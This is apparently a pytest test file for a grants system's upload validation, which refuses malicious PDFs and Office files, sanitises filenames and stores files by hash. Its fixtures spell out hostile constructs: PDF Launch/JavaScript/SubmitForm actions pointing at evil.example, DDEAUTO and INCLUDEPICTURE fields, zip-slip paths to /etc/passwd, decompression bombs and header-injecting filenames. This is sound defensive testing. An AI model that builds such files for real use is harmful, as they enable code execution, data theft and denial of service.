"""Files: what may come in, by content; stored once under their hash; versions kept; nothing half written."""

from __future__ import annotations

import hashlib
import io
import os
import time
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path
from uuid import UUID, uuid4

import openpyxl
import pikepdf
import pytest
from flask import Flask
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image
from werkzeug.datastructures import FileStorage

from grants.core import file_store, files, pdf_checks
from grants.core.acts import WriteOutsideAct, act, once
from grants.core.db import db
from grants.core.errors import Invalid, NotFound, Refused
from grants.core.file_types import MEDIA, FileType
from grants.core.files import FileView, Incoming
from grants.core.permissions import EVERYWHERE, Actor, Permission

MANAGER = Actor(uuid4(), "Ingrid", frozenset({(Permission.CALL_MANAGE.value, EVERYWHERE)}))
THING = uuid4()

TABLES = frozenset({FileType.XLSX, FileType.ODS, FileType.CSV})


@act("probe.attach", needs=Permission.CALL_MANAGE, says="did a thing of the tests")
def attach(actor: Actor, incoming: Incoming, role: str = "annex", replaces: UUID | None = None) -> FileView:
    return files.keep(incoming, kind="note", object_id=THING, role=role, replaces=replaces)


@act("probe.attach_and_fail", needs=Permission.CALL_MANAGE, says="did a thing of the tests")
def attach_and_fail(actor: Actor, incoming: Incoming) -> None:
    files.keep(incoming, kind="note", object_id=THING, role="annex")
    raise Refused("No.")


@act("probe.produce", needs=Permission.CALL_MANAGE, says="did a thing of the tests")
def produce(actor: Actor, data: str) -> FileView:
    return files.keep_bytes(
        data.encode(), name="statement.csv", media_type="text/csv", kind="note", object_id=THING, role="statement"
    )


@act("probe.take_off", needs=Permission.CALL_MANAGE, says="did a thing of the tests")
def take_off(actor: Actor, file_id: UUID) -> None:
    files.remove(file_id)


@act("probe.discard", needs=Permission.CALL_MANAGE, says="did a thing of the tests")
def discard(actor: Actor, file_id: UUID) -> None:
    files.discard(file_id)


def upload(data: bytes, name: str) -> FileStorage:
    return FileStorage(io.BytesIO(data), filename=name)


def received(data: bytes = b"some text\n", name: str = "note.txt") -> Incoming:
    return files.receive(upload(data, name))


# Files as programs make them.


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **saving: object) -> bytes:
    target = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        if change is not None:
            change(document)
        document.save(target, **saving)
    return target.getvalue()


def archive(parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", compression) as file:
        for name, data in parts.items():
            file.writestr(name, data)
    return target.getvalue()


def xlsx() -> bytes:
    target = io.BytesIO()
    openpyxl.Workbook().save(target)
    return target.getvalue()


WORD = b'<Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
MACRO = b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'


def docx(types: bytes = WORD, **more: bytes) -> bytes:
    return archive({"[Content_Types].xml": types, "word/document.xml": b"<w/>", **more})


def odt(kind: str = "text", **more: bytes) -> bytes:
    mimetype = f"application/vnd.oasis.opendocument.{kind}".encode()
    return archive({"mimetype": mimetype, "content.xml": b"<x/>", **more})


def image(format: str) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", (8, 8)).save(target, format)
    return target.getvalue()


def huge_png(side: int = 50_000) -> bytes:
    small = bytearray(image("PNG"))
    small[16:24] = side.to_bytes(4, "big") * 2
    small[29:33] = zlib.crc32(bytes(small[12:29])).to_bytes(4, "big")
    return bytes(small)


def bomb() -> bytes:
    return docx(**{"word/media/a": bytes(40_000_000)})


def with_script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


LOCKED = {"encryption": pikepdf.Encryption(user="secret", owner="secret")}
RESTRICTED = {"encryption": pikepdf.Encryption(user="", owner="secret")}


@pytest.fixture
def folder(tmp_path: Path) -> Iterator[Path]:
    """A data folder and the two settings that receiving needs; no database."""
    bare = Flask("bare")
    bare.config.update(GRANTS_HOME=str(tmp_path), UPLOAD_BYTES_MAX=25_000_000)
    with bare.app_context():
        yield tmp_path / "files" / "incoming"


@pytest.mark.usefixtures("folder")
class TestReceiving:
    """What comes in, and what is kept out with a sentence."""

    @pytest.mark.parametrize(
        ("name", "make", "kind"),
        [
            ("plan.pdf", pdf, FileType.PDF),
            ("plan.DOCX", docx, FileType.DOCX),
            ("budget.xlsx", xlsx, FileType.XLSX),
            ("plan.odt", odt, FileType.ODT),
            ("budget.ods", lambda: odt("spreadsheet"), FileType.ODS),
            ("map.png", lambda: image("PNG"), FileType.PNG),
            ("map.jpeg", lambda: image("JPEG"), FileType.JPEG),
            ("costs.csv", lambda: "Stadt;Größe\n".encode("utf-8-sig"), FileType.CSV),
            ("notes.txt", lambda: "Łódź 2 < 3".encode(), FileType.TXT),
        ],
    )
    def test_each_allowed_type_is_known_by_its_content(
        self, name: str, make: Callable[[], bytes], kind: FileType
    ) -> None:
        data = make()

        incoming = received(data, name)

        assert incoming == Incoming(name, MEDIA[kind], len(data), hashlib.sha256(data).hexdigest())

    @pytest.mark.parametrize(
        ("name", "make", "words"),
        [
            ("page.pdf", lambda: b"<!DOCTYPE html><script>x</script>", "a web page or XML by its content"),
            ("logo.png", lambda: b'<svg xmlns="x"><script>x</script></svg>', "a drawing .SVG. by its content"),
            ("logo.svg", lambda: b'<?xml version="1.0"?><svg></svg>', "a drawing .SVG. by its content"),
            ("plan.pdf", docx, "is a Word document by its content, but its name ends in “.pdf”"),
            ("plan", pdf, "has no ending. It is a PDF"),
            ("locked.pdf", lambda: pdf(**LOCKED), "locked with a password"),
            ("restricted.pdf", lambda: pdf(**RESTRICTED), "is protected"),
            ("script.pdf", lambda: pdf(with_script), "contains a script"),
            ("broken.pdf", lambda: b"%PDF-1.7\n" + b"x" * 500, "is damaged"),
            ("bomb.docx", bomb, "would grow to"),
            ("macro.docm", lambda: docx(MACRO), "contains macros"),
            ("macro.docx", lambda: docx(**{"word/vbaProject.bin": b"x"}), "contains macros"),
            ("macro.odt", lambda: odt(**{"Basic/Standard/x.xml": b"x"}), "contains macros"),
            ("locked.odt", lambda: odt(**{"META-INF/manifest.xml": b"<m:encryption-data/>"}), "locked with a pass"),
            (
                "old.doc",
                lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
                "password or in an old Office format",
            ),
            ("slides.pptx", lambda: archive({"[Content_Types].xml": b"presentation"}), "cannot be uploaded"),
            ("all.zip", lambda: archive({"a.txt": b"x"}), "is a ZIP archive"),
            ("cut.docx", lambda: docx()[:-30], "is damaged"),
            ("huge.png", huge_png, "is damaged|million pixels"),
            ("cut.png", lambda: image("PNG")[:40], "is damaged"),
            ("tool.exe", lambda: b"MZ" + bytes(600), "cannot be uploaded"),
            ("old.csv", lambda: "Größe".encode("cp1252"), "not in UTF-8"),
            ("bytes.txt", lambda: b"a\x00b", "signs that no text has"),
            ("empty.txt", lambda: b"", "is empty"),
        ],
    )
    def test_what_is_not_what_it_says_is_refused_with_a_sentence(
        self, folder: Path, name: str, make: Callable[[], bytes], words: str
    ) -> None:
        with pytest.raises(Invalid, match=words):
            received(make(), name)

        assert list(folder.iterdir()) == []

    def test_a_type_that_is_not_wanted_here_is_refused_with_those_that_are(self) -> None:
        with pytest.raises(Invalid, match=r"is a PDF; here you can upload \.xlsx, \.ods, \.csv"):
            files.receive(upload(pdf(), "plan.pdf"), allowed=TABLES)
        with pytest.raises(Invalid, match=r"plan.xlsx” is a PDF; here you can upload \.xlsx"):
            files.receive(upload(pdf()[:40], "plan.xlsx"), allowed=TABLES)
        with pytest.raises(Invalid, match=r"plan.docx” is a Word document; here you can upload \.pdf"):
            files.receive(upload(docx()[:-30], "plan.docx"), allowed={FileType.PDF})
        with pytest.raises(Invalid, match=r"cut.xlsx” is damaged: .* upload that\. Here you can upload \.xlsx, \.ods"):
            files.receive(upload(docx()[:-30], "cut.xlsx"), allowed=TABLES)

    def test_an_upload_stops_at_its_limit(self) -> None:
        endless = _Endless()

        with pytest.raises(Invalid, match="larger than 1 MB"):
            files.receive(FileStorage(endless, filename="big.txt"), bytes_max=1_000_000)

        assert endless.given <= 1_000_000 + 2 * files.CHUNK_BYTES

    def test_a_full_disk_is_a_sentence_and_changes_nothing(self, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        def full(number: int) -> None:
            raise OSError(28, "No space left on device")

        monkeypatch.setattr(os, "fsync", full)

        with pytest.raises(Refused, match="no space left on device"):
            received()
        assert list(folder.iterdir()) == []


class _Endless:
    given = 0

    def read(self, size: int) -> bytes:
        self.given += size
        return b"a" * size


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("../../x", "x"),
        ("..\\..\\windows\\plan.pdf", "plan.pdf"),
        ("a\r\nSet-Cookie: b.pdf", "a Set-Cookie_ b.pdf"),
        ("gpj\u202efdp.exe", "gpj fdp.exe"),
        ("  .hidden. ", "hidden"),
        ("", "file"),
        ("/", "file"),
        ("Größe – Łódź.pdf", "Größe – Łódź.pdf"),
        (f"{'x' * 300}.pdf", f"{'x' * 116}.pdf"),
    ],
)
def test_names_are_one_clean_line_without_a_path(typed: str, kept: str) -> None:
    assert files.clean_name(typed) == kept


@given(st.text(max_size=300))
def test_any_name_becomes_one_that_the_database_takes(typed: str) -> None:
    name = files.clean_name(typed)

    assert 0 < len(name) <= files.NAME_CHARACTERS_MAX
    assert all(unicodedata.category(sign)[0] != "C" for sign in name)
    assert not set(name) & set('/\\\n\r\0<>:"|?*')
    assert name not in {".", ".."}
    assert files.clean_name(name) == name


@pytest.mark.usefixtures("app")
class TestKeeping:
    """Inside an act: once under the hash, with its row or not at all."""

    def test_a_kept_file_lies_under_its_hash_readable_by_this_user_only(self, app: Flask) -> None:
        kept = attach(MANAGER, received())

        path = files.path(kept)
        assert path.relative_to(app.config["GRANTS_HOME"]).parts == (
            "files", kept.sha256[:2], kept.sha256[2:4], kept.sha256,
        )  # fmt: skip
        assert (path.read_bytes(), path.stat().st_mode & 0o777) == (b"some text\n", 0o600)
        assert (kept.version_no, kept.created_by) == (1, MANAGER.user_id)

    def test_keeping_belongs_inside_an_act(self) -> None:
        with pytest.raises(WriteOutsideAct):
            files.keep(received(), kind="note", object_id=THING, role="annex")

    def test_a_refused_act_leaves_no_row(self) -> None:
        with pytest.raises(Refused):
            attach_and_fail(MANAGER, received())

        assert files.listed("note", THING) == ()

    def test_the_same_bytes_are_stored_once(self, app: Flask) -> None:
        first = attach(MANAGER, received(name="a.txt"))
        second = attach(MANAGER, received(name="b.txt"))

        assert files.path(first) == files.path(second)
        assert [file.name for file in files.listed("note", THING)] == ["a.txt", "b.txt"]
        assert list((Path(app.config["GRANTS_HOME"]) / "files/incoming").iterdir()) == []

    def test_the_same_form_sent_twice_keeps_one_version(self) -> None:
        with once("k"):
            first = attach(MANAGER, received())
        with once("k"):
            again = attach(MANAGER, received())

        assert again == first
        assert files.listed("note", THING) == (first,)

    def test_the_same_name_becomes_the_next_version_and_the_old_one_stays(self) -> None:
        first = attach(MANAGER, received(b"one"))
        second = attach(MANAGER, received(b"two"))

        assert (second.version_no, files.listed("note", THING)) == (2, (second,))
        assert (second.replaces_id, first.replaces_id) == (first.id, None)
        assert files.path(files.view(first.id)).read_bytes() == b"one"

    def test_a_file_may_replace_one_of_another_name_but_only_once(self) -> None:
        first = attach(MANAGER, received(name="draft.txt"))
        final = attach(MANAGER, received(name="final.txt"), replaces=first.id)

        assert files.listed("note", THING, "annex") == (final,)
        assert files.listed("note", THING, "other") == ()

    def test_a_file_taken_off_is_not_listed_and_its_name_is_free(self) -> None:
        first = attach(MANAGER, received(b"one"))
        take_off(MANAGER, first.id)

        assert files.listed("note", THING) == ()
        assert attach(MANAGER, received(b"two")).version_no == 1
        assert files.path(first).read_bytes() == b"one"

    def test_a_produced_file_is_stored_and_versioned_alike(self) -> None:
        first = produce(MANAGER, "a;b")
        again = produce(MANAGER, "a;b")

        assert (first.version_no, again.version_no, first.sha256) == (1, 2, again.sha256)
        assert files.path(again).read_bytes() == b"a;b"

    def test_an_upload_that_waited_too_long_is_asked_for_again(self) -> None:
        incoming = received()
        files.sweep_orphans(timedelta(seconds=-1))

        with pytest.raises(Refused, match="waited too long"):
            attach(MANAGER, incoming)

    def test_the_sweeper_takes_old_orphans_only(self) -> None:
        kept = attach(MANAGER, received(b"kept"))
        with pytest.raises(Refused):
            attach_and_fail(MANAGER, received(b"orphan"))
        received(b"never kept")

        assert files.sweep_orphans() == 0
        yesterday = time.time() - 100_000
        for file in file_store.store().rglob("*"):
            if file.is_file():
                os.utime(file, (yesterday, yesterday))
        assert files.sweep_orphans() == 2

        assert files.path(kept).read_bytes() == b"kept"

    def test_a_missing_and_a_changed_file_are_found(self) -> None:
        gone = attach(MANAGER, received(b"gone", "gone.txt"))
        changed = attach(MANAGER, received(b"changed", "changed.txt"))
        assert files.verify() == ()
        files.path(gone).unlink()
        files.path(changed).write_bytes(b"other")

        db.session.rollback()
        assert {problem.place for problem in files.verify()} == {"gone.txt", "changed.txt"}
        with pytest.raises(NotFound):
            files.path(gone)


# What acts by itself, wherever in a document it hides.


def action(kind: str, **more: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name("/" + kind), **more)


def on_page(kind: str, **more: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].obj.AA = pikepdf.Dictionary(O=action(kind, **more))

    return change


def annotation(**entries: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        made = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], **entries)
        document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(made)])

    return change


def link(kind: str, **more: object) -> Callable[[pikepdf.Pdf], None]:
    return annotation(Subtype=pikepdf.Name.Link, A=action(kind, **more))


def link_then(kind: str) -> Callable[[pikepdf.Pdf], None]:
    return annotation(Subtype=pikepdf.Name.Link, A=action("URI", URI="https://example.eu", Next=[action(kind)]))


def opening_after_a_jump(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = action("GoTo", D=[0, pikepdf.Name.Fit], Next=action("URI", URI="https://example.eu"))


def script_by_name(document: pikepdf.Pdf) -> None:
    document.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=["a", action("JavaScript", JS="app.alert(1)")])
    )


def script_nothing_leads_to(document: pikepdf.Pdf) -> None:
    document.Root.PieceInfo = pikepdf.Dictionary(A=[[pikepdf.Dictionary(B=action("JavaScript", JS="1"))]])


def name_told_elsewhere(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.X = pikepdf.Dictionary(S=document.make_indirect(pikepdf.Name.Launch))


def with_attachment(document: pikepdf.Pdf) -> None:
    document.attachments["other.txt"] = b"hidden"


def file_of_an_annotation(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"MZ")
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="a.exe", EF=pikepdf.Dictionary(F=stream))
    document.pages[0].obj.AF = pikepdf.Array([spec])


def with_xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=document.make_stream(b"<xdp/>"))


def field_that_counts(document: pikepdf.Pdf) -> None:
    field = pikepdf.Dictionary(FT=pikepdf.Name.Tx, T="a", AA=pikepdf.Dictionary(K=action("JavaScript", JS="1")))
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[field])


def stream_of_another_file(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.X = document.make_stream(b"", F="\\\\evil\\share\\a")


def too_deep(document: pikepdf.Pdf) -> None:
    inner: object = pikepdf.Array([])
    for _ in range(90):
        inner = pikepdf.Array([inner])
    document.Root.PieceInfo = inner


def hundred_things(document: pikepdf.Pdf) -> None:
    document.Root.PieceInfo = pikepdf.Array([pikepdf.Dictionary(A=number) for number in range(100)])


def nothing_but_reading(document: pikepdf.Pdf) -> None:
    """Links, bookmarks, a first page to show, a form to fill, and names that only look like deeds."""
    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])
    with document.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Plan", 0))
    link("URI", URI="https://example.eu/call")(document)
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[pikepdf.Dictionary(FT=pikepdf.Name.Tx, T="a")])
    page = document.pages[0].obj
    page.Group = pikepdf.Dictionary(S=pikepdf.Name.Transparency)
    page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(AA=pikepdf.Dictionary(Type=pikepdf.Name.Font)))


def object_stream_bomb() -> bytes:
    """A PDF of some hundred kilobytes whose catalogue lies in a stream that unpacks to 200 million bytes."""
    packing = zlib.compressobj(9)
    packed = packing.compress(b"1 0 <</Type/Catalog/Pages 3 0 R>>")
    packed += b"".join(packing.compress(b" " * 1_000_000) for _ in range(200)) + packing.flush()
    parts = {
        2: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (len(packed), packed),
        3: b"<</Type/Pages/Count 1/Kids[4 0 R]>>",
        4: b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]>>",
    }
    made, places = b"%PDF-1.5\n", {}
    for number, body in parts.items():
        places[number] = len(made)
        made += b"%d 0 obj %s endobj\n" % (number, body)
    rows = [(0, 0, 65_535), (2, 2, 0), *((1, places[number], 0) for number in parts), (1, len(made), 0)]
    table = b"".join(
        kind.to_bytes(1, "big") + place.to_bytes(4, "big") + last.to_bytes(2, "big") for kind, place, last in rows
    )
    head = b"<</Type/XRef/Size 6/Root 1 0 R/W[1 4 2]/Length %d>>" % len(table)
    return made + b"5 0 obj %s\nstream\n%s\nendstream endobj\nstartxref\n%d\n%%%%EOF" % (head, table, len(made))


RELATION = '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"{}/>'


def relations(kind: str, target: str = "https://evil.example/x", outside: bool = True) -> bytes:
    inner = RELATION.format(kind, target, ' TargetMode="External"' if outside else "")
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<?xml version="1.0"?><Relationships xmlns="{space}">{inner}</Relationships>'.encode()


def linked_docx(kind: str, part: str = "word/_rels/document.xml.rels", **how: object) -> bytes:
    return docx(**{part: relations(kind, **how)})


SHEET = b'<Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'


def workbook(**more: bytes) -> bytes:
    return archive({"[Content_Types].xml": SHEET, "xl/workbook.xml": b"<w/>", **more})


def told_smaller(data: bytes, name: bytes) -> bytes:
    """The same archive, one part of which says everywhere that it unpacks to ten bytes."""
    made = bytearray(data)
    local = made.index(name) - 30
    made[local + 22 : local + 26] = (10).to_bytes(4, "little")
    central = made.rindex(name) - 46
    made[central + 24 : central + 28] = (10).to_bytes(4, "little")
    return bytes(made)


def twice(part: str) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as file, pytest.warns(UserWarning, match="Duplicate"):
        for name in ("[Content_Types].xml", part, part):
            file.writestr(name, WORD)
    return target.getvalue()


ENTITIES = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb">]><Relationships/>'
FETCHING_FIELD = (
    b'<w:d xmlns:w="w"><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/a.png&quot; "/></w:d>'
)
CLICKED_FIELD = b'<w:d xmlns:w="w"><w:fldSimple w:instr=" HYPERLINK &quot;http://a.example&quot; \\o &quot;the link to it&quot; "/></w:d>'
CUT_FIELD = b'<w:d xmlns:w="w"><w:instrText> DDE</w:instrText><w:instrText>AUTO c:\\\\calc.exe </w:instrText></w:d>'


@pytest.mark.usefixtures("folder")
class TestWhatActsByItself:
    """A document is to be read: what starts, fetches, sends or hides something stays outside."""

    @pytest.mark.parametrize(
        ("change", "words"),
        [
            (on_page("JavaScript", JS="1"), "contains a script"),
            (on_page("URI", URI="https://evil.example"), "does something by itself"),
            (field_that_counts, "contains a script"),
            (link("Launch", F="calc.exe"), "starts another program"),
            (link("GoToR", F="\\\\evil\\share\\a.pdf"), "opens another file"),
            (link("SubmitForm", F="https://evil.example"), "sends what is typed"),
            (link_then("JavaScript"), "contains a script"),
            (opening_after_a_jump, "by itself when it is opened"),
            (script_by_name, "contains a script"),
            (script_nothing_leads_to, "contains a script"),
            (name_told_elsewhere, "starts another program"),
            (with_attachment, "other files packed inside"),
            (file_of_an_annotation, "other files packed inside"),
            (annotation(Subtype=pikepdf.Name.RichMedia), "rich media"),
            (annotation(Subtype=pikepdf.Name.FileAttachment), "another file attached"),
            (with_xfa, "dynamic form .XFA."),
            (stream_of_another_file, "reads data from another file"),
            (too_deep, "too intricately|is damaged"),
        ],
    )
    def test_a_pdf_that_does_anything_is_refused_with_the_way_out(
        self, folder: Path, change: Callable[[pikepdf.Pdf], None], words: str
    ) -> None:
        with pytest.raises(Invalid, match=words) as refused:
            received(pdf(change), "plan.pdf")

        assert "new PDF" in str(refused.value) or "Save it again" in str(refused.value)
        assert list(folder.iterdir()) == []

    def test_a_pdf_with_links_bookmarks_and_a_form_comes_in(self) -> None:
        assert received(pdf(nothing_but_reading), "plan.pdf").media_type == "application/pdf"

    def test_deeds_packed_into_object_streams_are_found(self) -> None:
        packed = pdf(link("Launch", F="a"), object_stream_mode=pikepdf.ObjectStreamMode.generate)

        with pytest.raises(Invalid, match="starts another program"):
            received(packed, "plan.pdf")

    def test_a_pdf_of_more_objects_than_can_be_looked_at_is_refused(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(pdf_checks, "OBJECTS_MAX", 50)

        with pytest.raises(Invalid, match="too intricately"):
            received(pdf(hundred_things), "plan.pdf")

    def test_a_small_pdf_that_unpacks_to_hundreds_of_megabytes_is_refused_without_unpacking_it(self) -> None:
        data = object_stream_bomb()
        assert len(data) < 300_000

        with pytest.raises(Invalid, match="is damaged"):
            received(data, "plan.pdf")

    def test_a_pdf_without_its_table_of_objects_is_refused(self) -> None:
        whole = pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)
        start = whole.rindex(b"startxref")

        with pytest.raises(Invalid, match=r"its table of objects is missing|is damaged"):
            received(whole[:start] + b"%%EOF\n", "plan.pdf")

    @pytest.mark.parametrize(
        ("name", "make", "words"),
        [
            ("a.docx", lambda: linked_docx("attachedTemplate", "word/_rels/settings.xml.rels"), "loads its template"),
            ("a.docx", lambda: linked_docx("oleObject"), "shows an object from another file"),
            ("a.docx", lambda: linked_docx("image"), "loads a picture from another place"),
            ("a.docx", lambda: linked_docx("frame"), "loads something from another place"),
            ("a.docx", lambda: linked_docx("aFChunk", outside=False), "another document packed inside"),
            ("a.docx", lambda: docx(**{"word/_rels/document.xml.rels": ENTITIES}), "its own XML entities"),
            (
                "a.docx",
                lambda: docx(**{"word/footer1.xml": CUT_FIELD}),
                "starts another program or fetches a file .DDEAUTO.",
            ),
            ("a.docx", lambda: docx(**{"word/document.xml": FETCHING_FIELD}), "fetches a file .INCLUDEPICTURE."),
            ("a.docx", lambda: docx(**{"word/embeddings/oleObject1.bin": b"x"}), "object of another program"),
            ("a.docx", lambda: docx(**{"word/embeddings/tool.EXE": b"MZ"}), "a program packed inside"),
            ("a.docx", lambda: docx(**{"../../etc/passwd": b"x"}), "outside its own folder"),
            ("a.docx", lambda: docx(**{"/etc/passwd": b"x"}), "outside its own folder"),
            ("a.docx", lambda: docx(**{"C:/x": b"x"}), "outside its own folder"),
            ("a.docx", lambda: twice("word/document.xml"), "the same part twice"),
            ("a.docx", lambda: told_smaller(docx(**{"word/x": bytes(9_000)}), b"word/x"), "is damaged"),
            ("a.docx", lambda: docx(**{f"word/{n}": b"" for n in range(5_001)}), "in 5003 parts"),
            (
                "a.xlsx",
                lambda: workbook(**{"xl/externalLinks/_rels/externalLink1.xml.rels": relations("externalLinkPath")}),
                "values from another workbook",
            ),
            (
                "a.xlsx",
                lambda: workbook(**{"xl/_rels/workbook.xml.rels": relations("connections", outside=False)}),
                "fetches data from another place",
            ),
            ("a.xlsx", lambda: workbook(**{"xl/macrosheets/sheet1.xml": b"<x/>"}), "old macro sheets"),
            (
                "a.odt",
                lambda: odt(
                    **{"styles.xml": b'<a xmlns:xlink="x"><draw:image xlink:href="http://evil.example/a.png"/></a>'}
                ),
                "loads something from another place",
            ),
            (
                "a.ods",
                lambda: odt("spreadsheet", **{"styles.xml": b"<a><table:table-source/></a>"}),
                "takes data from another file",
            ),
            ("a.odt", lambda: odt(**{"styles.xml": b"<a><script:event-listener/></a>"}), "contains macros"),
        ],
    )
    def test_an_office_file_that_fetches_or_hides_something_is_refused(
        self, folder: Path, name: str, make: Callable[[], bytes], words: str
    ) -> None:
        with pytest.raises(Invalid, match=words):
            received(make(), name)

        assert list(folder.iterdir()) == []

    @pytest.mark.parametrize(
        ("name", "make"),
        [
            ("a.docx", lambda: linked_docx("hyperlink")),
            ("a.docx", lambda: linked_docx("image", target="media/image1.png", outside=False)),
            (
                "a.docx",
                lambda: docx(**{"word/document.xml": b"<a><instrText> PAGE </instrText><t>The DDE desk</t></a>"}),
            ),
            ("a.docx", lambda: docx(**{"word/document.xml": CLICKED_FIELD})),
            ("a.xlsx", lambda: workbook(**{"xl/embeddings/Microsoft_Excel_Sheet.xlsx": xlsx()})),
            ("a.odt", lambda: odt(**{"styles.xml": b'<a><draw:image xlink:href="Pictures/1.png"/></a>'})),
        ],
    )
    def test_links_to_click_and_what_lies_inside_come_in(self, name: str, make: Callable[[], bytes]) -> None:
        assert received(make(), name).name == name

    @pytest.mark.parametrize("side", [9_000, 50_000])
    def test_a_small_picture_of_very_many_pixels_is_refused_by_their_number(self, side: int) -> None:
        with pytest.raises(Invalid, match=f"{side * side // 1_000_000} million pixels; at most 60 million"):
            received(huge_png(side), "map.png")


def test_what_the_program_made_for_a_while_goes_with_all_its_versions(app: Flask) -> None:
    first, second = produce(MANAGER, "one"), produce(MANAGER, "two")
    assert (second.version_no, second.replaces_id) == (2, first.id)

    discard(MANAGER, second.id)

    assert files.listed("note", THING) == ()
    for gone in (first, second):
        with pytest.raises(NotFound):
            files.view(gone.id)
